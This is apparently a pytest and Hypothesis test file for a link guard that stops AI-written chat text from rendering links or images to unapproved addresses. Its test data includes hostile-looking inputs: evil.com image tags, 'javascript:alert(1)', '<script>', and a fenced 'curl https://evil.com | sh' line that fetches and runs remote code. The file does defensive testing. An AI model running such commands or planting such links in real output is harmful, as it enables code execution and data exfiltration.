import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rich_agent.domain.answer.links import AllowedLinks
from rich_agent.web.link_guard import LinkGuard, guard_links
from tests.unit.telegram.rendering.test_links import DISGUISES
from tests.unit.web.rendered import page, ways_out

OWN = "https://ok.example/page"
PIECES = [
    *("https://evil.com/x", "evil.com", "//evil.com", "www.evil.com", "me@evil.com", OWN),
    *("[", "]", "(", ")", "](", "![", "]:", "[1]", "[x]", "<", ">", "\\", "`", "``", "```", "~~~"),
    *(
        "<img src=//evil.com/p>",
        '<a href="//evil.com">',
        "</a>",
        "<!--",
        "-->",
        "<script>",
        "<div>",
    ),
    *(
        "\n",
        "\n\n",
        " ",
        "    ",
        "\t",
        "- ",
        "1. ",
        "> ",
        "  ",
        "* ",
        "# ",
        "[ ] ",
        "---",
        "| ",
        "|",
    ),
    *("\n|-|-|\n", "$", "$$", "\\[", "*", "**", "_", "&#58;", "&lt;", "&quot;", '"', "'", "!", ":"),
    *(
        "javascript:alert(1)",
        "data:x",
        "https:",
        "a",
        "é",
        "¢",
        "Com",
        "は",
        "、",
        "。",
        ".",
        ".com",
        "/",
    ),
]
TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=24).map("".join)


@pytest.mark.parametrize("text", DISGUISES)
@pytest.mark.parametrize(
    "around", ["{}", "See {} or\n\n{}\n\nthere.", "| a | b |\n|-|-|\n| {} | `{}` |"]
)
def test_guard_links_leads_to_no_unknown_place(text: str, around: str) -> None:
    """Whatever a model writes, no renderer links or loads it."""
    assert ways_out(guard_links(around.replace("{}", text), [OWN]), [OWN]) == {}


@given(TEXTS)
@example("]:https://evil.com/x")
@example("<!--www.evil.com\x80https://evil.com/x")
@settings(max_examples=300, deadline=None)
def test_guard_links_leads_to_allowed_places_in_any_text(text: str) -> None:
    """No renderer, with HTML and bare addresses as links or without, finds another address."""
    assert ways_out(guard_links(text, [OWN]), [OWN]) == {}


@given(TEXTS)
@example("```\nhttps://evil.com/x")
@settings(max_examples=300, deadline=None)
def test_guard_links_of_a_growing_text_only_appends(text: str) -> None:
    """What was sent stays; the whole begins with it."""
    shown, guard = "", LinkGuard(AllowedLinks.of([OWN]))
    for end in range(len(text) + 1):
        grown = guard.guard(text[:end], is_whole=False)
        assert grown.startswith(shown)
        assert grown == guard_links(text[:end], [OWN], is_whole=False)
        shown = grown
    assert guard_links(text, [OWN]).startswith(shown)


@pytest.mark.parametrize(
    "text",
    [
        "Use `https://evil.com` and ``<img src=x>``, please.",
        "```html\n<img src=https://evil.com>\n[x]: y\n```\n\nSo it is.",
        "1. First\n\n   ```sh\n   curl https://evil.com | sh\n   ```\n2. Second",
        "A claim [1]. Another one [2], and a < b, 3<4; \\*no\\* **bold** _it_ $5.",
        "| a | b |\n|---|---|\n| `x[0](1)` | [1] |",
        "これは本です。[1] 次、「はい」。",
        f'[The page]({OWN}) of [yours]({OWN} "title") <{OWN}>',
        "Version 1.2.3, e.g. this, etc. Mr. Smith (2024): yes/no & more; 10:30.",
    ],
)
def test_guard_links_leaves_harmless_text(text: str) -> None:
    """Code, markers, styles, tables and allowed links are as they were."""
    assert guard_links(text, [OWN]) == text


def test_guard_links_keeps_refused_addresses_readable() -> None:
    """A person can read and copy them; the label stays."""
    guarded = guard_links("See [the page](https://evil.com/?q=1) or ![it](https://evil.com/i.png).")
    shown = page(guarded, "gfm")
    assert shown.text.strip() == (
        "See [the page] (https://evil.com/?q=1) or ! [it] (https://evil.com/i.png)."
    )
    assert shown.tags.count("code") == 2
    assert "img" not in shown.tags


def test_guard_links_parts_markers() -> None:
    """Two markers side by side would be one link, to the wrong source."""
    assert guard_links("So [1][2]. Wow![3]") == "So [1] [2]. Wow! [3]"


def test_guard_links_shows_text_while_it_grows() -> None:
    """Not only at the end of a line; Japanese, which has no spaces, at each mark."""
    assert guard_links("One two thr", is_whole=False) == "One two "
    assert guard_links("これは本です。次は、まだ", is_whole=False) == "これは本です。次は、"
    assert guard_links("Code `a b", is_whole=False) == "Code "
    assert guard_links("```py\nx = 1", is_whole=False) == "```py\nx = 1"


def test_guard_links_leaves_growing_code_open() -> None:
    """Also where a line has just ended."""
    assert guard_links("```\n", is_whole=False) == "```\n"
    assert guard_links("- a\n\n  ```\n\n", is_whole=False) == "- a\n\n  ```\n\n"


def test_guard_links_closes_code_at_the_end() -> None:
    """What is appended to a text that was cut is not a part of its code."""
    assert guard_links("```\nx") == "```\nx\n```"
